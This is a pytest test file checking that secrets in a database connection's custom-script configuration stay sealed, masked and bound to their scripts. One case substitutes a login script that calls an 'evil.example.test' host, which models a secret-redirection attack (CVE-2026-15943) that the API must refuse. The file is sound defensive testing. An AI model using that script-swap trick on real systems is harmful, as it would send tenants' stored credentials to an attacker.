"""Secrets of a database's scripts: sealed, shown as marks, and bound to the scripts that read them."""

from typing import Any

import pytest
from tests.support.management import Caller, refused
from tests.support.world import World

pytestmark = [pytest.mark.anyio, pytest.mark.wire("/api/v2/*")]

DB = "/connections/con_db"
SECRET = "legacy-directory-key-91b7"
SCRIPTS = {"login": "function login() { call('https://directory.example.test/'); }"}
OPTIONS = {"customScripts": SCRIPTS, "configuration": {"KEY": SECRET}}


async def _kept(world: World) -> dict[str, str]:
    (found,) = await world.platform.stores.connections.all(world.tenant_id)
    return world.platform.connections.configuration(world.tenant_id, found)


async def _with_secret(robot: Caller) -> str:
    """Gives the database its secret; returns the mark that stands for it."""
    response = await robot.patch(DB, {"options": OPTIONS})
    assert response.status_code == 200
    mark: str = response.json()["options"]["configuration"]["KEY"]
    return mark


async def test_secret_is_sealed_and_never_shown(world: World, robot: Caller) -> None:
    """A secret is kept, and stands in no answer, in no log, and nowhere in the database."""
    mark = await _with_secret(robot)
    assert await _kept(world) == {"KEY": SECRET}
    assert mark.startswith("sealed:")
    assert SECRET not in (await robot.get(DB)).text + (await robot.get("/logs")).text
    assert not [line for line in world.dump() if SECRET in line]


async def test_mark_keeps_the_secret(world: World, robot: Caller) -> None:
    """Options sent back as they were read keep the secret, and the mark is not stored as one."""
    mark = await _with_secret(robot)
    options = (await robot.read(DB))["options"]
    response = await robot.patch(DB, {"options": {**options, "disable_signup": True}})
    assert response.json()["options"]["configuration"] == {"KEY": mark}
    assert await _kept(world) == {"KEY": SECRET}


@pytest.mark.parametrize(
    ("changed", "told"),
    [
        (
            {"customScripts": {"login": "call('https://evil.example.test/')"}},
            "options.configuration.KEY: stands for a secret that other scripts read",
        ),
        ({"customScripts": None}, "options.configuration.KEY: stands for a secret that other scripts read"),
        (
            {"configuration": {"OTHER": "{mark}"}},
            "options.configuration.OTHER: stands for another secret than is kept",
        ),
        (
            {"configuration": {"KEY": "sealed:000000000000000000000000"}},
            "options.configuration.KEY: stands for another secret than is kept",
        ),
    ],
)
async def test_mark_goes_to_no_other_place(
    world: World, robot: Caller, changed: dict[str, Any], told: str
) -> None:
    """A secret that is not known cannot be led elsewhere by its mark (CVE-2026-15943)."""
    mark = await _with_secret(robot)
    if changed.get("configuration", {}).get("OTHER"):
        changed = {"configuration": {"OTHER": mark}}
    options = {**OPTIONS, "configuration": {"KEY": mark}, **changed}
    response = await robot.patch(DB, {"options": options})
    assert refused(response) == (400, "invalid_body")
    assert told in response.json()["message"]
    assert await _kept(world) == {"KEY": SECRET}


async def test_options_without_secrets_forget_them(world: World, robot: Caller) -> None:
    """Options are replaced whole: scripts that are changed without their secrets have none."""
    await _with_secret(robot)
    await robot.patch(DB, {"options": {"customScripts": {"login": "elsewhere()"}}})
    assert await _kept(world) == {}
    assert "configuration" not in (await robot.read(DB))["options"]


async def test_other_fields_leave_secrets_alone(world: World, robot: Caller) -> None:
    """An update without options keeps the secret."""
    await _with_secret(robot)
    await robot.patch(DB, {"display_name": "Staff"})
    assert await _kept(world) == {"KEY": SECRET}


async def test_wrong_secret_is_not_repeated(robot: Caller) -> None:
    """A secret of the wrong type is refused without being told."""
    response = await robot.patch(DB, {"options": {"configuration": {"KEY": 918273645}}})
    assert refused(response) == (400, "invalid_body")
    assert "918273645" not in response.text
